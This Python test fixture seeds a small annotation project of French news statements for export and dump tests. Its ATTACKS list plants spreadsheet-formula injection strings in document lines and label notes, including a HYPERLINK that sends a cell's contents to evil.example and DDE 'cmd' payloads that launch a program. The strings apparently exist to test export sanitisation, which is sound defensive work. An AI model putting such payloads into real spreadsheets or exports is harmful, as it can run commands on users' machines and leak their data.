"""A small project with every kind of label, shared by the export, dump and interchange tests."""

from __future__ import annotations

import datetime as dt

from builders import label, lines_document

import storage
from annotate.core.models import AdjudicationInput

ATTACKS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]


def document(lines: list[str], *, title: str, published: str | None = "2024-03-05"):
    return lines_document(
        lines,
        name=f"{title}.txt",
        title=title,
        outlet="Le Monde",
        url=f"https://example.org/{title}",
        published=dt.date.fromisoformat(published) if published else None,
        published_precision="day" if published else None,
    )


def populate(db: storage.Database, users: dict[str, int]) -> dict[str, list[int]]:
    """Two documents; labels by alice, bob, carol; one edit, one delete, one skip, one
    adjudication; notes and statements holding spreadsheet-formula attacks."""
    a = storage.add_document(
        db,
        document(
            [
                "Le ministre a déclaré que l'accord était signé.",
                "Selon des sources proches du dossier, la livraison a eu lieu.",
                ATTACKS[0],
            ],
            title="alpha",
        ),
    )
    b = storage.add_document(
        db, document(["Le porte-parole a démenti.", ATTACKS[3]], title="beta", published=None)
    )
    s = {
        "a": [x.id for x in storage.statements_of(db, a.document_id)],  # type: ignore[arg-type]
        "b": [x.id for x in storage.statements_of(db, b.document_id)],  # type: ignore[arg-type]
    }
    al, bo, ca, eve = users["alice"], users["bob"], users["carol"], users["eve"]
    save = storage.save_annotation
    save(db, label(s["a"][0], al, "named_official", 4, also_cites=["document", "expert"]))
    save(
        db,
        label(
            s["a"][0],
            bo,
            "named_official",
            5,
            suggestion_shown=True,
            suggested_type="named_official",
        ),
    )
    save(db, label(s["a"][0], ca, "official_statement", 3, note=ATTACKS[1]))
    save(db, label(s["a"][1], al, "anonymous_official", 2, who="sources proches du dossier"))
    save(db, label(s["a"][1], bo, "media_report", 2, note=ATTACKS[2]))
    save(db, label(s["a"][1], bo, "anonymous_official", 3, note=ATTACKS[4]))  # an edit
    save(db, label(s["a"][2], al, "unattributed", None, unsure=True, note=ATTACKS[5]))
    save(db, label(s["a"][2], ca, "unattributed", 1, flagged=True, note=ATTACKS[6]))
    save(db, label(s["b"][0], ca, "official_denial", 4, cue="a démenti"))
    save(db, label(s["b"][0], al, "official_denial", 4))
    save(db, label(s["b"][1], bo, None, None, skipped=True))
    save(db, label(s["b"][1], ca, "expert", 2))
    storage.delete_annotation(db, s["b"][1], ca)
    storage.adjudicate(
        db,
        AdjudicationInput(
            statement_id=s["a"][1],
            editor_id=eve,
            source_type="anonymous_official",
            confidence=3,
            note="checked",
        ),
        expected_revision=0,
    )
    return s
